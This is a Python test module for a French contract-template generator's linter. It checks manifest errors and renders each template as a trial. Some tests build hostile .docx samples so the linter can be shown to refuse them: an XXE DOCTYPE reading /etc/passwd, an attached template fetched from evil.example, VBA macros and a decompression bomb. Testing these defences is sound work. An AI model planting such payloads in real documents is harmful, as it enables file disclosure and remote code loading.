"""Checking a whole template set: the manifest, each file as untrusted input, the test render."""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path
from typing import Any

import pytest

from clausegen import french
from clausegen.compute.hours import compute_obligation
from clausegen.errors import TemplateError
from clausegen.i18n import speaking
from clausegen.render.lint import Finding, Severity, check_templates, example_contracts
from clausegen.render.templates import MANIFEST, default_dir, load_template_set
from clausegen.resolve.loading import load_contract
from clausegen.resolve.parameters import Method
from clausegen.validate.models import ContractKind, Mechanism
from tests.helpers import build_file_tree, contract_data
from tests.template_builders import make_template, rewrite

#: The codes whose exact message and location are tested in this module.
CODES_TESTED_THERE = {
    "provenance-in-contract",  # tests/render/lint/test_lint_names.py
    "manifest-missing",
    "manifest-invalid",
    "template-missing",
    "template-unlisted",
    "not-a-docx",
    "too-large",
    "too-compressed",
    "doctype",
    "macros",
    "external-relationship",
    "render-undefined",
    "render-failed",
    "render-broken-xml",
}

ENTRY = {"id": "x", "file": "x.docx", "title": "Titre", "destination": "CCAP", "description": "D"}


def one_template_set(root: Path, template: bytes, **files: Any) -> Path:
    return build_file_tree(root, {MANIFEST: {"templates": [ENTRY]}, "x.docx": template, **files})


def summary(findings: tuple[Finding, ...] | list[Finding]) -> list[tuple[Any, ...]]:
    return [
        (f.template, f.code, f.severity.value, f.line, f.part, f.paragraph, f.message, f.suggestion)
        for f in findings
    ]


def test_the_default_set_is_checked_against_every_example() -> None:
    check = check_templates()
    bundled = load_template_set().entries
    assert check.ok
    assert check.templates == tuple(entry.file for entry in bundled)
    assert check.rendered == check.templates
    assert check.contracts == tuple(p.name for p in example_contracts())
    assert check.ids == {entry.file: entry.id for entry in bundled}


def test_the_examples_cover_every_mechanism_kind_and_method() -> None:
    contracts = [load_contract(path) for path in example_contracts()]
    obligations = [compute_obligation(contract) for contract in contracts]
    # NOTE: no example of the joint reservation (reserved_joint, issue 12) yet.
    assert {c.mechanism for c in contracts} == set(Mechanism) - {Mechanism.RESERVED_JOINT}
    assert {c.kind for c in contracts} == set(ContractKind)
    assert {lot.method for o in obligations for lot in o.lots} == set(Method)
    assert {len(c.lots) > 1 for c in contracts} == {True, False}
    assert {c.facilitator is not None for c in contracts} == {True, False}


def test_a_folder_without_manifest_has_its_documents_checked_anyway(tmp_path: Path) -> None:
    build_file_tree(tmp_path, {"a.docx": make_template(["{{ titre }}"]), "~$a.docx": b"lock"})
    check = check_templates(tmp_path, render=False)
    assert check.templates == ("a.docx",)
    assert summary(check.findings) == [
        (
            MANIFEST,
            "manifest-missing",
            "error",
            None,
            None,
            None,
            "Le dossier n'a pas de fichier templates.yaml : clausegen ne sait pas quels modèles "
            "utiliser.",
            "Partez du dossier créé par « clausegen templates export », qui contient un "
            "templates.yaml commenté.",
        ),
        (
            "a.docx",
            "unknown-variable",
            "error",
            None,
            "body",
            1,
            "« titre » n'est pas une variable du vocabulaire.",
            "Vouliez-vous écrire « title » ?",
        ),
    ]


def test_manifest_problems_are_in_french_with_their_lines_and_valid_entries_are_checked(
    tmp_path: Path,
) -> None:
    build_file_tree(
        tmp_path,
        {
            MANIFEST: (
                "templates:\n"
                "  - id: ccap\n"
                "    file: ccap.docx\n"
                "    titel: Titre\n"
                "    destination: CCAP\n"
                "    description: D\n"
                "  - id: Bad Id\n"
                "    file: ~$rc.docx\n"
                "    title: ''\n"
                "    destination: RC\n"
                "    description: D\n"
                "  - id: ae\n"
                "    file: ae.docx\n"
                "    title: T\n"
                "    destination: AE\n"
                "    description: D\n"
                "  - id: ae\n"
                "    file: absent.docx\n"
                "    title: T\n"
                "    destination: AE\n"
                "    description: D\n"
            ),
            "ccap.docx": make_template(["{{ title }}"]),
            "ae.docx": make_template(["{{ lot_cont }}"]),
            "brouillon.docx": make_template(["Brouillon"]),
            "~$ae.docx": b"lock",
            ".~lock.ae.docx#": b"lock",
        },
    )
    check = check_templates(tmp_path, render=False)
    assert check.templates == ("ae.docx", "ccap.docx")
    assert summary(check.findings) == [
        (MANIFEST, "manifest-invalid", "error", 2, None, None,
         "templates[0].title : champ obligatoire manquant.", None),
        (MANIFEST, "manifest-invalid", "error", 4, None, None,
         "templates[0].titel : champ inconnu.", "Vouliez-vous écrire « title » ?"),
        (MANIFEST, "manifest-invalid", "error", 7, None, None,
         "templates[1].id : l'identifiant « Bad Id » doit s'écrire en minuscules, chiffres, "
         "« - » ou « _ », et commencer par une lettre.", None),
        (MANIFEST, "manifest-invalid", "error", 8, None, None,
         "templates[1].file : « ~$rc.docx » est un fichier de verrouillage de Word ou de "
         "LibreOffice, pas un modèle.", None),
        (MANIFEST, "manifest-invalid", "error", 9, None, None,
         "templates[1].title : ne doit pas être vide.", None),
        (MANIFEST, "manifest-invalid", "error", 17, None, None,
         "templates[3].id : l'identifiant « ae » est déjà celui d'un autre modèle.", None),
        (MANIFEST, "template-missing", "error", 18, None, None,
         "templates[3].file : templates.yaml nomme « absent.docx », qui n'est pas dans le "
         "dossier.",
         "Corrigez le nom du fichier dans templates.yaml (majuscules et accents comptent), ou "
         "replacez le fichier dans le dossier."),
        ("brouillon.docx", "template-unlisted", "warning", None, None, None,
         "« brouillon.docx » n'est pas nommé dans templates.yaml : il ne sera jamais utilisé.",
         "Ajoutez-le à templates.yaml (id, file, title, destination, description), ou "
         "retirez-le du dossier."),
        ("ae.docx", "unknown-variable", "error", None, "body", 1,
         "« lot_cont » n'est pas une variable du vocabulaire.",
         "Vouliez-vous écrire « lot_count » ?"),
    ]  # fmt: skip


def test_a_manifest_that_is_not_yaml(tmp_path: Path) -> None:
    build_file_tree(tmp_path, {MANIFEST: "templates: [\n"})
    (finding,) = check_templates(tmp_path, render=False).findings
    assert (finding.code, finding.line) == ("manifest-invalid", 2)
    assert finding.message.startswith(
        "templates.yaml ne peut pas être lu (détail technique : invalid YAML:"
    )


def test_an_empty_list_of_templates(tmp_path: Path) -> None:
    build_file_tree(tmp_path, {MANIFEST: "templates: []\n"})
    (finding,) = check_templates(tmp_path, render=False).findings
    assert (finding.code, finding.line, finding.message) == (
        "manifest-invalid",
        1,
        "templates : la liste des modèles est vide.",
    )


def unsafe(change: str) -> bytes:
    clean = make_template(["{{ title }}"])
    members = zipfile.ZipFile(io.BytesIO(clean))
    if change == "doctype":
        body = members.read("word/document.xml").replace(
            b"<w:document", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document', 1
        )
        return rewrite(clean, {"word/document.xml": body})
    if change == "attached-template":
        return rewrite(clean, {"word/_rels/settings.xml.rels": ATTACHED})
    if change == "macros":
        return rewrite(clean, {"word/vbaProject.bin": b"\x00" * 10})
    if change == "bomb":
        return rewrite(clean, {"word/media/big.xml": b"0" * (3 * 1024 * 1024)})
    if change == "large":
        return rewrite(clean, {f"word/media/p{i}.bin": b"x" for i in range(1001)})
    assert change == "not-zip"
    return b"Ceci n'est pas un document Word."


ATTACHED = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)

UNSAFE = [
    (
        "doctype",
        "doctype",
        "La partie « word/document.xml » du fichier contient une déclaration DOCTYPE, que Word "
        "n'écrit jamais : refusé.",
        "Repartez d'un modèle sain (clausegen templates export) et recopiez-y votre texte.",
    ),
    (
        "attached-template",
        "external-relationship",
        "La partie « word/_rels/settings.xml.rels » du fichier renvoie à un contenu extérieur "
        "(attachedTemplate : https://evil.example/t.dotm), que Word irait chercher à "
        "l'ouverture du document : refusé.",
        "Détachez le modèle attaché (Développeur > Modèle de document), insérez les images "
        "dans le document au lieu de les lier, et remplacez les liens vers des fichiers par "
        "des liens web.",
    ),
    (
        "macros",
        "macros",
        "La partie « word/vbaProject.bin » du fichier contient des macros (un projet VBA), "
        "qu'un modèle de clause ne doit pas contenir.",
        "Enregistrez-le au format « Document Word (*.docx) », pas « Document Word prenant en "
        "charge les macros (*.docm) ».",
    ),
    (
        "bomb",
        "too-compressed",
        "La partie « word/media/big.xml » du fichier se décompresse {ratio} fois (3 145 728 "
        "octets) : refusé comme possible bombe de décompression.",
        "Repartez d'un modèle sain (clausegen templates export) et recopiez-y votre texte.",
    ),
    (
        "large",
        "too-large",
        "Le fichier contient 1 018 parties, plus que les 1 000 admises.",
        "Retirez les images et objets volumineux, puis enregistrez de nouveau.",
    ),
    (
        "not-zip",
        "not-a-docx",
        "Le fichier n'est pas un document Word (.docx) : ce n'est pas une archive zip.",
        "Enregistrez-le depuis Word au format « Document Word (*.docx) ».",
    ),
]


@pytest.mark.parametrize(
    ("change", "code", "message", "suggestion"), UNSAFE, ids=[u[0] for u in UNSAFE]
)
def test_an_unsafe_template_file_is_refused_before_anything_reads_it(
    tmp_path: Path, change: str, code: str, message: str, suggestion: str
) -> None:
    data = unsafe(change)
    if change == "bomb":
        # NOTE: the compressed size depends on the zlib build; the message gives the ratio.
        info = zipfile.ZipFile(io.BytesIO(data)).getinfo("word/media/big.xml")
        message = message.format(ratio=french.number(round(info.file_size / info.compress_size)))
    one_template_set(tmp_path, data)
    check = check_templates(tmp_path)
    assert summary(check.findings) == [
        ("x.docx", code, "error", None, None, None, message, suggestion)
    ]
    assert check.rendered == ()


def test_render_errors_are_located_and_each_reported_once_with_its_contracts(
    tmp_path: Path,
) -> None:
    template = make_template(["Lot 2 : {{ lots[1].title }}", "Total : {{ lot_count + title }}"])
    one_template_set(
        tmp_path,
        template,
        **{
            "un-lot.yaml": contract_data(),
            "un-lot-bis.yaml": contract_data(reference="T-002"),
            "deux-lots.yaml": contract_data(
                lots=[
                    {"number": 1, "title": "A", "trade": "maconnerie", "estimated_amount": 1000000},
                    {"number": 2, "title": "B", "trade": "maconnerie", "estimated_amount": 500000},
                ]
            ),
        },
    )
    contracts = [tmp_path / n for n in ("un-lot.yaml", "un-lot-bis.yaml", "deux-lots.yaml")]
    check = check_templates(tmp_path, contracts=contracts)
    assert check.contracts == ("un-lot.yaml", "un-lot-bis.yaml", "deux-lots.yaml")
    assert [(f.code, f.part, f.paragraph, f.excerpt, f.contracts) for f in check.findings] == [
        (
            "render-undefined",
            "body",
            1,
            "Lot 2 : {{ lots[1].title }}",
            ("un-lot.yaml", "un-lot-bis.yaml"),
        ),
        ("render-failed", "body", 2, "Total : {{ lot_count + title }}", ("deux-lots.yaml",)),
    ]
    undefined, failed = check.findings
    assert undefined.message == (
        "Avec le contrat « un-lot.yaml » (et 1 autre), une valeur demandée n'existe pas (détail "
        "technique : list object has no element 1)."
    )
    assert undefined.suggestion == (
        "Entourez le passage d'une condition ({%p if several_lots %}) ou parcourez la liste "
        "avec une boucle au lieu de prendre un élément par son numéro."
    )
    assert failed.message == (
        "Le rendu d'essai avec le contrat « deux-lots.yaml » échoue (détail technique : "
        "TypeError: unsupported operand type(s) for +: 'int' and 'str')."
    )
    assert failed.suggestion == (
        "Les valeurs sont des textes déjà mis en forme : affichez-les telles quelles, sans "
        "calcul ; les nombres entiers ont un nom qui finit par « _number » ou « _count »."
    )


def test_a_render_that_would_break_the_document(tmp_path: Path) -> None:
    template = make_template(["avant {% if reserved %}début"], table=[["fin {% endif %} après"]])
    one_template_set(tmp_path, template, **{"c.yaml": contract_data()})
    check = check_templates(tmp_path, contracts=[tmp_path / "c.yaml"])
    assert [(f.code, f.severity) for f in check.findings] == [
        ("block-across-paragraphs", Severity.WARNING),
        ("render-broken-xml", Severity.ERROR),
    ]
    broken = check.findings[1]
    assert (broken.part, broken.paragraph, broken.contracts) == ("body", 1, ("c.yaml",))
    assert broken.message == (
        "Avec le contrat « c.yaml », le document produit serait invalide : une balise s'ouvre "
        "probablement dans un paragraphe, une ligne ou un tableau et se ferme dans un autre."
    )


def test_a_template_with_errors_is_not_test_rendered(tmp_path: Path) -> None:
    one_template_set(tmp_path, make_template(["{{ lot_count + title }}", "{{ titre }}"]))
    check = check_templates(tmp_path)
    assert [f.code for f in check.findings] == ["unknown-variable"]
    assert check.rendered == ()
    assert not check.ok


def test_warnings_alone_leave_the_check_ok(tmp_path: Path) -> None:
    one_template_set(tmp_path, make_template(["{% if several_lots %}", "Alloti.", "{% endif %}"]))
    check = check_templates(tmp_path)
    assert [f.code for f in check.findings] == ["bare-statement-paragraph"] * 2
    assert check.ok
    assert check.warnings == list(check.findings)
    assert check.rendered == ("x.docx",)


def test_a_broken_tag_hides_nothing_of_the_other_paragraphs_or_templates(tmp_path: Path) -> None:
    second = {**ENTRY, "id": "y", "file": "y.docx"}
    build_file_tree(
        tmp_path,
        {
            MANIFEST: {"templates": [ENTRY, second]},
            "x.docx": make_template(["{%p if several_lots %", "{{ lot_cout }}", "{{ title }"]),
            "y.docx": make_template(["{{ buyer.nom }}"]),
        },
    )
    check = check_templates(tmp_path, render=False)
    assert [(f.template, f.code, f.paragraph) for f in check.findings] == [
        ("x.docx", "unclosed-tag", 1),
        ("x.docx", "unknown-variable", 2),
        ("x.docx", "unclosed-tag", 3),
        ("y.docx", "unknown-variable", 1),
    ]


def test_a_folder_that_is_not_one(tmp_path: Path) -> None:
    with speaking("en"), pytest.raises(TemplateError, match="is not a folder of templates"):
        check_templates(tmp_path / "absent")


def test_the_check_of_an_edited_copy_names_its_templates(tmp_path: Path) -> None:
    folder = tmp_path / "set"
    shutil.copytree(default_dir(), folder)
    check = check_templates(folder, render=False)
    assert check.directory == folder
    assert check.findings == ()


def test_a_contract_the_document_cannot_be_built_from_is_left_out_of_the_test_render(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from clausegen.missing import NoCharterError
    from clausegen.present.context import build_context as real
    from clausegen.render.lint import trial as module

    def no_charter_for_t002(contract: Any, *args: Any, **kwargs: Any) -> Any:
        if contract.reference == "T-002":
            raise NoCharterError(source="b.yaml", buyer="Ville", profile=None)
        return real(contract, *args, **kwargs)

    monkeypatch.setattr(module, "build_context", no_charter_for_t002)
    one_template_set(
        tmp_path,
        make_template(["{{ lots[1].title }}"]),
        **{"a.yaml": contract_data(), "b.yaml": contract_data(reference="T-002")},
    )
    check = check_templates(tmp_path, contracts=[tmp_path / "a.yaml", tmp_path / "b.yaml"])
    assert [(f.code, f.contracts) for f in check.findings] == [("render-undefined", ("a.yaml",))]


def test_an_unknown_requirement_in_the_manifest(tmp_path: Path) -> None:
    build_file_tree(tmp_path, {MANIFEST: {"templates": [{**ENTRY, "requires": ["charte"]}]}})
    build_file_tree(tmp_path, {"x.docx": make_template(["{{ title }}"])})
    (finding,) = check_templates(tmp_path, render=False).findings
    assert (finding.code, finding.line, finding.message) == (
        "manifest-invalid",
        8,
        "templates[0].requires[0] : « charte » n'est pas une valeur admise (valeurs possibles : "
        "charter, hours).",
    )


def test_a_template_that_needs_the_charter_is_tried_with_buyers_that_have_one(
    tmp_path: Path,
) -> None:
    entry = {**ENTRY, "requires": ["charter"]}
    build_file_tree(
        tmp_path,
        {MANIFEST: {"templates": [entry]}, "x.docx": make_template(["{{ lots[9].title }}"])},
    )
    check = check_templates(tmp_path)
    with_charter = [
        path.name for path in example_contracts() if load_contract(path).buyer.charter is not None
    ]
    assert with_charter
    (finding,) = check.findings
    assert finding.contracts == tuple(with_charter)
